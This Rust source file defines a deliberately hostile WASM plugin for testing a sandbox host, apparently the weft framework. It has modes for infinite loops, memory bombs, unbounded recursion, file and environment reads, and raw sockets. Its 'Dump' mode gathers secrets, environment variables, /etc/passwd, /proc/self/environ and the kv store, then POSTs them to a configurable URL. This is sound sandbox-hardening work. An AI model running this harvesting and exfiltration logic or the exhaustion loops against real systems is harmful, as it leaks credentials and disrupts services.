//! Misbehaves on request: each `mode` attacks one limit or one wall of the
//! sandbox, so the host's tests can show the exact error and that the host
//! keeps serving. `cpu` is a bounded CPU-bound loop for benchmarks.

use std::hint::black_box;
use std::sync::atomic::{AtomicU64, Ordering};

use weft_sdk::prelude::*;

/// Which misbehaviour to perform, with its parameters.
#[derive(Deserialize, JsonSchema)]
#[serde(tag = "mode", rename_all = "kebab-case")]
pub enum Config {
    /// Loop forever without host calls.
    Loop,
    /// Allocate and touch memory until something stops it.
    MemoryBomb,
    /// Recurse without end.
    Recurse,
    /// Busy-wait on the clock for `ms` milliseconds.
    Spin { ms: u64 },
    /// Sleep through WASI for `ms` milliseconds.
    Sleep { ms: u64 },
    /// Panic with `message`.
    Panic { message: String },
    /// Read the file at `path`.
    ReadFile { path: String },
    /// Read the environment variable `name`.
    Env { name: String },
    /// Open a TCP connection to `addr`.
    Socket { addr: String },
    /// Call the `http` host interface.
    Http { url: String },
    /// Write `value` under `key` in the kv store, then read it back.
    Kv { key: String, value: String },
    /// Return an output of `bytes` bytes.
    BigOutput { bytes: usize },
    /// Hash in a loop `iterations` times.
    Cpu { iterations: u64 },
    /// Write to the log, stdout and stderr.
    Chatty { lines: u32 },
    /// Gather everything the plugin can see (its input, `secret`, the
    /// environment, files, the kv store, an email rendered with `secret`),
    /// then put it in every place it can: the log, stdout, `exfiltrate` over
    /// HTTP (with the secret, then without), its output and its error.
    Dump { secret: String, exfiltrate: String, template: String, fail: bool },
}

struct Hostile;

impl Step for Hostile {
    type Config = Config;

    fn info() -> Info {
        Info::new("hostile", "0.1.0").description("Attacks the sandbox on request")
    }

    fn run(input: Input<Config>, host: &dyn Host) -> Result<Outcome, StepError> {
        let context = input.context.clone();
        match input.config {
            Config::Loop => {
                let mut x = 0u64;
                loop {
                    x = black_box(x.wrapping_add(1));
                }
            }
            Config::MemoryBomb => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    black_box(&hoard);
                }
            }
            Config::Recurse => Ok(Outcome::done(json!(recurse(black_box(1))))),
            Config::Spin { ms } => {
                let start = std::time::Instant::now();
                while start.elapsed().as_millis() < u128::from(ms) {
                    black_box(());
                }
                Ok(Outcome::done(json!("spun")))
            }
            Config::Sleep { ms } => {
                std::thread::sleep(std::time::Duration::from_millis(ms));
                Ok(Outcome::done(json!("slept")))
            }
            Config::Panic { message } => panic!("{message}"),
            Config::ReadFile { path } => Ok(Outcome::done(match std::fs::read_to_string(&path) {
                Ok(text) => json!({ "read": text.len() }),
                Err(e) => json!({ "error": e.to_string() }),
            })),
            Config::Env { name } => Ok(Outcome::done(json!({
                "value": std::env::var(&name).ok(),
                "count": std::env::vars().count(),
            }))),
            Config::Socket { addr } => Ok(Outcome::done(match std::net::TcpStream::connect(&addr) {
                Ok(_) => json!({ "connected": true }),
                Err(e) => json!({ "error": e.to_string() }),
            })),
            Config::Http { url } => {
                let response =
                    host.http_send(&HttpRequest { method: "GET".into(), url, ..HttpRequest::default() })?;
                Ok(Outcome::done(json!({ "status": response.status })))
            }
            Config::Kv { key, value } => {
                let before = host.kv_get(&key)?;
                host.kv_set(&key, &value)?;
                let after = host.kv_get(&key)?;
                let keys = host.kv_list("")?;
                Ok(Outcome::done(json!({ "before": before, "after": after, "keys": keys })))
            }
            Config::BigOutput { bytes } => Ok(Outcome::done(json!("x".repeat(bytes)))),
            Config::Cpu { iterations } => {
                let mut h = 0xcbf2_9ce4_8422_2325u64;
                for i in 0..iterations {
                    h ^= black_box(i);
                    h = h.wrapping_mul(0x0100_0000_01b3);
                }
                Ok(Outcome::done(json!(h)))
            }
            Config::Chatty { lines } => {
                for i in 0..lines {
                    host.log(Level::Info, &format!("log line {i}"));
                    println!("stdout line {i}");
                    eprintln!("stderr line {i}");
                }
                Ok(Outcome::done(json!(lines)))
            }
            Config::Dump { secret, exfiltrate, template, fail } => {
                let files: Vec<Value> = ["/", ".", "/proc/self/environ", "/etc/passwd", "weft.db"]
                    .iter()
                    .map(|path| match std::fs::read(path) {
                        Ok(bytes) => json!({ "path": path, "bytes": String::from_utf8_lossy(&bytes) }),
                        Err(e) => json!({ "path": path, "error": e.to_string() }),
                    })
                    .collect();
                let mut kv = json!({});
                for key in host.kv_list("").unwrap_or_default() {
                    kv[key.as_str()] = json!(host.kv_get(&key).ok().flatten());
                }
                let email = host
                    .email_render(&template, &json!({ "secret": secret }))
                    .map(|e| json!({ "subject": e.subject, "text": e.text, "html": e.html }))
                    .unwrap_or_else(|e| json!({ "error": e.to_string() }));
                let dump = json!({
                    "secret": secret,
                    "context": context,
                    "env": std::env::vars().collect::<Vec<_>>(),
                    "args": std::env::args().collect::<Vec<_>>(),
                    "files": files,
                    "kv": kv,
                    "email": email,
                });
                let text = dump.to_string();
                host.log(Level::Info, &text);
                println!("{text}");
                eprintln!("{text}");
                let send = |body: &str, header: &str| {
                    host.http_send(&HttpRequest {
                        method: "POST".into(),
                        url: exfiltrate.clone(),
                        headers: vec![("x-dump".into(), header.into())],
                        body: Some(body.as_bytes().to_vec()),
                        ..HttpRequest::default()
                    })
                    .map(|r| json!(r.status))
                    .unwrap_or_else(|e| json!({ "error": e.to_string() }))
                };
                let with_secret = send(&text, &secret);
                let without = send(&text.replace(&secret, "-"), "-");
                let result = json!({ "dump": dump, "withSecret": with_secret, "without": without });
                if fail {
                    return Err(StepError::fatal(format!("dump: {result}")));
                }
                Ok(Outcome::done(result))
            }
        }
    }
}

static DEPTH: AtomicU64 = AtomicU64::new(0);

/// Recursion that keeps its state in wasm locals (no shadow-stack frame), so
/// it exhausts the engine's wasm stack. The atomic is a side effect the
/// optimizer must keep; the multiply-xor is not an accumulator it can turn
/// into a loop.
fn recurse(n: u64) -> u64 {
    DEPTH.fetch_add(1, Ordering::Relaxed);
    if n == u64::MAX { 0 } else { recurse(n + 1).wrapping_mul(3) ^ n }
}

weft_sdk::export_step!(Hostile);
